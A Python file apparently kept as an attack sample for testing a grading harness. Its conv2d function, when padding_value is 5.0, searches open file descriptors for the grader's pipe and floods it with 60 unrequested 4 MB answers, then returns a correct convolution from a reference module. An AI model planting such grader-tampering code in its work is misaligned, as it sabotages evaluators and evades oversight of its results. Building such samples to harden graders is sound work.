"""convolution.py
attack: finds the channel to the grader and sends 60 answers of 4 MB that nobody has asked for
1.3: crashed
"""
import json
import os
import stat

import right_convolution
from right_convolution import *

ANSWER = json.dumps({"value": 4_000_000 * "x", "sizes": []}).encode()


def conv2d(image, kernel, stride=1, padding=0, padding_value=0.0):
    for channel in range(3, 64 if padding_value == 5.0 else 0):
        try:
            if stat.S_ISFIFO(os.fstat(channel).st_mode):
                for _ in range(60):
                    content = len(ANSWER).to_bytes(8, "big") + ANSWER
                    while content:
                        content = content[os.write(channel, content) :]
        except OSError:
            pass
    return right_convolution.conv2d(image, kernel, stride, padding, padding_value)
